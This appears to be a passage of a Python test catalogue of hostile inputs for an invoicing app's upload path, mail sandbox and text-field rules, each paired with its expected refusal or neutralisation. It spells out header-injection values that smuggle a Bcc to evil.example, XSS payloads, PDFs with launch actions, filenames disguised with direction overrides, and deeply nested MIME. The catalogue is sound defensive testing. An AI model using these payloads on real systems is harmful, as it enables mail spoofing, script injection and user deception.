        (Use("upload", "attachments", Refused("invoice.pdf is a Windows program")),),
    ),
    Hostile(
        "file-html-renamed-pdf",
        "an HTML page with a script, renamed .pdf",
        (File("invoice.pdf", b"<html><script>alert(1)</script></html>"),),
        (Use("upload", "attachments", Refused("invoice.pdf is an HTML page")),),
    ),
    Hostile(
        "file-pdf-truncated",
        "a PDF cut off in the middle (an interrupted download)",
        (File("scan.pdf", lambda: plain_pdf()[:300]),),
        (
            Use("upload", "attachments", Refused(PDF_CUT_OFF)),
            Use("upload", "api", Refused(PDF_CUT_OFF, "attachment_damaged")),
        ),
    ),
    Hostile(
        "file-pdf-header-on-garbage",
        "a PDF header and end marker around bytes that are no PDF",
        (File("offer.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 4 + b"\n%%EOF\n"),),
        (Use("upload", "attachments", Refused("offer.pdf starts like a PDF but cannot be read")),),
    ),
    *[
        Hostile(
            f"file-pdf-{kind}",
            f"a PDF with {what}: sent without it, and the sender told",
            (File("form.pdf", make),),
            (
                Use("upload", "attachments", Neutralised("active content removed")),
                Use("upload", "api", Neutralised("active content removed")),
            ),
        )
        for kind, what, make in [
            ("javascript", "a document-level /JavaScript", pdf_with_javascript),
            (
                "open-action-script",
                "an /OpenAction running JavaScript",
                pdf_with_open_action_script,
            ),
            ("launch", "/OpenAction /Launch and a /Launch link", pdf_with_launch),
            ("embedded-file", "a program in /EmbeddedFiles", pdf_with_embedded_file),
        ]
    ],
    Hostile(
        "file-pdf-password",
        "a PDF that opens only with a password: nothing in it can be checked",
        (File("salaris.pdf", lambda: pdf_encrypted("geheim")),),
        (
            Use("upload", "attachments", Refused(PDF_PASSWORD)),
            Use("upload", "api", Refused(PDF_PASSWORD, "attachment_damaged")),
        ),
    ),
    Hostile(
        "file-pdf-owner-password-only",
        "a PDF protected only against editing (it opens without a password)",
        (File("voorwaarden.pdf", lambda: pdf_encrypted("")),),
        (Use("upload", "attachments", Accepted()),),
    ),
    Hostile(
        "file-pdf-owner-password-with-script",
        "a PDF protected against editing that runs a script on opening",
        (File("form.pdf", lambda: pdf_encrypted("", script=True)),),
        (Use("upload", "attachments", Neutralised("active content removed")),),
    ),
    Hostile(
        "file-pdf-plain",
        "an ordinary PDF: sent byte for byte",
        (File("terms.pdf", plain_pdf),),
        (Use("upload", "attachments", Accepted()), Use("upload", "api", Accepted())),
    ),
    Hostile(
        "file-over-5-mb",
        "one file of 7 MB: kept up to the limit, then counted, never held whole",
        (File("plan.pdf", lambda: pdf_of_size(7 * 1024 * 1024)),),
        (
            Use("upload", "attachments", Refused(PLAN_TOO_LARGE)),
            Use("upload", "api", Refused(PLAN_TOO_LARGE, "attachment_too_large")),
        ),
    ),
    Hostile(
        "upload-over-the-request-limit",
        "a real upload 1 MB over what any email can carry: refused before it is read",
        (File("plan.pdf", lambda: pdf_of_size(MAX_UPLOAD_BYTES + 1024 * 1024)),),
        (
            Use("upload", "attachments", Refused(UPLOAD_TOO_LARGE)),
            Use(
                "upload",
                "api",
                Refused("this endpoint accepts at most", "payload_too_large"),
            ),
        ),
    ),
    Hostile(
        "file-empty-next-to-a-good-one",
        "an empty file next to a good one: the empty one is named, nothing is sent",
        (File("empty.pdf", b""), File("terms.pdf", plain_pdf)),
        (
            Use("upload", "attachments", Refused("empty.pdf is empty: choose the file again.")),
            Use("upload", "api", Refused("empty.pdf is empty", "attachment_empty")),
        ),
    ),
    Hostile(
        "file-empty-next-to-bad-ones",
        "an empty file does not hide the other files' problems: one message per file",
        (
            File("empty.pdf", b""),
            File("setup.exe", b"MZ\x90\x00"),
            File("scan.pdf", lambda: plain_pdf()[:200]),
            File("terms.pdf", plain_pdf),
        ),
        (
            Use(
                "upload",
                "attachments",
                Refused(
                    "empty.pdf is empty: choose the file again.",
                    also=("setup.exe cannot be attached", "scan.pdf is cut off"),
                ),
            ),
        ),
    ),
    Hostile(
        "files-with-bad-names-together",
        "a nameless file, an empty one and a name with a direction override in one upload",
        (
            File("", b"x" * 2048),
            File("empty.pdf", b""),
            File("a\u202egpj.exe", plain_pdf),
            File("fine.pdf", plain_pdf),
        ),
        (
            Use(
                "upload",
                "attachments",
                Refused(
                    "A file of 2 KB has no name",
                    also=("empty.pdf is empty: choose the file again.", "(U+202E)"),
                ),
            ),
        ),
    ),
    # --- The sandbox mail server: what a client hands it ---------------------------------------
    Hostile(
        "mail-subject-encoded-script",
        "a subject whose encoded word reads as a script element",
        Mail(
            lambda: _mail(f"Subject: {_b64_word(SCRIPT_MARK)} Factuur"),
            shows=SCRIPT_MARK,
        ),
        (Use("sandbox", "subject", Neutralised("escaped")),),
    ),
    Hostile(
        "mail-subject-encoded-line-break",
        "a subject whose encoded word reads as CR LF and a Bcc header",
        Mail(lambda: _mail("Subject: =?utf-8?q?Factuur=0D=0ABcc:_all@evil.example?=")),
        (Use("sandbox", "subject", Neutralised("no header added")),),
    ),
    Hostile(
        "mail-subject-folded",
        "a folded subject line that continues with what looks like a header",
        Mail(lambda: _mail("Subject: Factuur 2026-00042\r\n\tBcc: all@evil.example")),
        (Use("sandbox", "subject", Neutralised("no header added")),),
    ),
    Hostile(
        "mail-from-encoded-handler",
        "a sender name whose encoded word reads as an image with an event handler",
        Mail(
            lambda: _mail(f"From: {_b64_word(HANDLER_MARK)} <billing@evil.example>"),
            shows=f'"{HANDLER_MARK}" <billing@evil.example>',  # a name with <> is quoted
        ),
        (Use("sandbox", "from", Neutralised("escaped")),),
    ),
    Hostile(
        "mail-text-with-markup",
        "a plain-text body holding a script element",
        Mail(lambda: _mail(body=f"Beste klant,\r\n{SCRIPT_MARK}\r\n"), shows=SCRIPT_MARK),
        (Use("sandbox", "text", Neutralised("escaped")),),
    ),
    *[
        Hostile(
            f"mail-html-{kind}",
            f"an HTML body with {what}",
            Mail(lambda html=html: _mail_with_html(html)),
            (Use("sandbox", "html", Neutralised("sandboxed")),),
        )
        for kind, what, html in [
            ("script", "a script element", f"<p>Factuur</p><script>{RAN % 'script'}</script>"),
            ("onerror", "an onerror handler", f'<img src="x" onerror="{RAN % "onerror"}">'),
            (
                "javascript-link",
                "a javascript: link",
                f'<a href="javascript:void({RAN % "link"})">Betalen</a>',
            ),
            (
                "iframe",
                "an iframe whose document runs a script on the message",
                f'<iframe srcdoc="<script>parent.{RAN % "iframe"}</script>"></iframe>',
            ),
            (
                "css-expression",
                "a CSS expression() (old Internet Explorer ran it)",
                f'<p style="width:expression({RAN % "css"})">Factuur</p>',
            ),
            (
                "form",
                "a form posting elsewhere",
                '<form action="https://evil.example/"><input name="p"></form>',
            ),
        ]
    ],
    Hostile(
        "mail-attachment-path-names",
        "attachments named with parent folders, Windows folders and a direction override",
        Mail(
            lambda: _mail_with_attachments([given for given, _shown in ATTACHMENT_NAMES]),
            attachment_names=tuple(shown for _given, shown in ATTACHMENT_NAMES),
        ),
        (Use("sandbox", "attachment names", Neutralised("plain names")),),
    ),
    Hostile(
        "mail-attachment-encoded-word-name",
        "an attachment whose name is an encoded word reading evil.exe",
        Mail(
            lambda: _mail_with_attachments(["=?utf-8?b?ZXZpbC5leGU=?="]),
            attachment_names=("evil.exe",),
        ),
        (Use("sandbox", "attachment names", Neutralised("plain names")),),
    ),
    Hostile(
        "mail-mime-unclosed",
        "a multipart message whose boundary is never closed, with a broken RFC 2231 name",
        Mail(
            b"Content-Type: multipart/mixed; boundary=never-closed\r\n\r\n--never-closed\r\n"
            b"Content-Type: application/pdf; name*=utf-8''%ZZbad\r\n\r\n\x00\x01\r\n"
        ),
        (Use("sandbox", "mime", Neutralised("stored as received")),),
    ),
    Hostile(
        "mail-mime-nested-deep",
        "a MIME tree nested 2,000 levels deep (the stdlib parses it by recursion)",
        Mail(lambda: _nested_mime(2000)),
        (Use("sandbox", "mime", Neutralised("stored as received")),),
    ),
    Hostile(
        "mail-mime-bad-charset-and-base64",
        "an unknown charset, a broken transfer encoding and a date that is no date",
        Mail(
            b"Subject: =?x-unknown?Q?broken?=\r\nDate: yesterday-ish\r\nFrom: <<<\r\n"
            b"Content-Type: text/html; charset=x-no-such-charset\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n%%% not base64 \xff\xfe\r\n"
        ),
        (Use("sandbox", "mime", Neutralised("stored as received")),),
    ),
    Hostile(
        "mail-nul-bytes",
        "NUL bytes in a header, in an encoded word and in the body (PostgreSQL stores no NUL "
        "in text)",
        Mail(
            lambda: _mail(
                "Subject: Factuur\x00 2026\r\nFrom: =?utf-8?q?Acme=00BV?= <billing@acme.example>",
                body="Beste\x00klant\r\n",
            ),
            shows="Factuur\ufffd 2026",
        ),
        (Use("sandbox", "header bytes", Neutralised("NUL shown as U+FFFD")),),
    ),
    Hostile(
        "mail-line-too-long",
        "a header line of 5,000 characters (RFC 5321 allows 1,000 per line)",
        Mail(lambda: _mail("Subject: " + "x" * 5000)),
        (Use("sandbox", "line length", Refused("500 Line too long (see RFC5321 4.5.3.1.6)")),),
    ),
    Hostile(
        "mail-over-the-size-limit",
        "a message over the server's size limit, its size announced (SIZE)",
        Mail(lambda: _mail(body=("x" * 78 + "\r\n") * (SANDBOX_TEST_LIMIT // 80 + 16))),
        (
            Use(
                "sandbox",
                "size",
                Refused("552 Error: message size exceeds fixed maximum message size"),
            ),
            Use("sandbox", "size unannounced", Refused("552 Error: Too much mail data")),
        ),
    ),
]


def _zip_with_program() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("invoice.exe", b"MZ\x90\x00" + b"\x00" * 60)
    return archive.getvalue()


def _b64_word(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


DEFAULT_HEADERS = {
    "From": "Acme BV <billing@acme.example>",
    "To": "boekhouding@klant.example",
    "Subject": "Factuur 2026-00042",
}


def _mail(headers: str = "", body: str = "Beste klant\r\n") -> bytes:
    """A message as an SMTP client hands it over: ``headers`` (CR LF between them), then a
    From, To and Subject where ``headers`` has none."""
    lines = headers.split("\r\n") if headers else []
    given = {line.split(":", 1)[0].lower() for line in lines if line[:1].strip()}
    head = [f"{k}: {v}" for k, v in DEFAULT_HEADERS.items() if k.lower() not in given] + lines
    return ("\r\n".join(head) + "\r\n\r\n" + body).encode()


def _mail_with_html(html: str) -> bytes:
    parts = (
        "Content-Type: text/plain; charset=utf-8\r\n\r\nBeste klant\r\n--b\r\n"
        f"Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--b--\r\n"
    )
    return _mail(
        "Subject: Factuur\r\nContent-Type: multipart/alternative; boundary=b", "--b\r\n" + parts
    )


def _mail_with_attachments(names: list[str]) -> bytes:
    attached = "".join(
        "--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; "
        f"{_filename_parameter(name)}\r\n\r\nMZ\r\n"
        for name in names
    )
    body = "--b\r\nContent-Type: text/plain\r\n\r\nBijlagen\r\n" + attached + "--b--\r\n"
    return _mail("Subject: Bijlagen\r\nContent-Type: multipart/mixed; boundary=b", body)


def _filename_parameter(name: str) -> str:
    """``filename="..."`` for a plain ASCII name (where a mail client reads encoded words), the
    RFC 2231 form for any other."""
    if name.isascii() and name.isprintable() and '"' not in name and "\\" not in name:
        return f'filename="{name}"'
    return f"filename*=utf-8''{quote(name, safe='')}"


def _nested_mime(depth: int) -> bytes:
    opening = "".join(
        f"--b{level}\r\nContent-Type: multipart/mixed; boundary=b{level + 1}\r\n\r\n"
        for level in range(depth - 1)
    )
    closing = "".join(f"--b{level}--\r\n" for level in reversed(range(depth)))
    leaf = f"--b{depth - 1}\r\nContent-Type: text/plain\r\n\r\nBeste klant\r\n"
    return _mail(
        "Subject: Diep\r\nContent-Type: multipart/mixed; boundary=b0", opening + leaf + closing
    )


# Every character the text rules name, one entry each, tried on the rules themselves.
LINE_BREAKS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"]
CONTROLS = ["\x00", "\x07", "\x1b", "\t", "\x7f", "\x80", "\x9b"]
CONTROLS_IN_TEXTS = ["\x00", "\x07", "\x1b", "\r", "\x7f", "\x85", "\x9f", "\u2028"]
DIRECTION_MARKS = [chr(code) for code in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]]


def _name(chars: str) -> str:
    return "+".join(f"U+{ord(char):04X}" for char in chars)


CATALOGUE += [
    Hostile(
        f"line-break-{_name(char)}",
        "a line break in a one-line field",
        f"Acme{char}BV",
        (Use("rules", "single_line", Refused(one_line("name"))),),
    )
    for char in LINE_BREAKS
]
CATALOGUE += [
    Hostile(
        f"control-{_name(char)}",
        "an invisible control character in a one-line field",
        f"Acme{char}BV",
        (Use("rules", "single_line", Refused(control("name", char))),),
    )
    for char in CONTROLS
]
CATALOGUE += [
    Hostile(
        f"control-in-text-{_name(char)}",
        "a control other than line feed and tab in a text",
        f"Line one{char}line two",
        (Use("rules", "multi_line", Refused(control("description", char))),),
    )
    for char in CONTROLS_IN_TEXTS
]
CATALOGUE += [
    Hostile(
        f"direction-{_name(char)}",
        "a character that changes the reading direction",
        f"invoice{char}fdp.exe",
        (
            Use("rules", "single_line", Refused(direction("name", char))),
            Use("rules", "multi_line", Refused(direction("description", char))),
        ),
    )
    for char in DIRECTION_MARKS
]


def cases(path: str) -> list:
    """``pytest.param(entry, use)`` for every use on ``path``, named ``entry-id:field``."""
    assert path in PATHS, f"unknown path {path!r}: add it to PATHS"
    return [
        pytest.param(entry, use, id=f"{entry.id}:{use.field}")
        for entry in CATALOGUE
        for use in entry.uses
        if use.path == path
    ]


def counts() -> dict[str, dict[str, int]]:
    """Per path, how many uses expect each outcome (docs/reliability.md quotes this)."""
    table: dict[str, dict[str, int]] = {path: {} for path in PATHS}
    for entry in CATALOGUE:
        for use in entry.uses:
            kind = type(use.outcome).__name__.lower()
            table[use.path][kind] = table[use.path].get(kind, 0) + 1
    return table
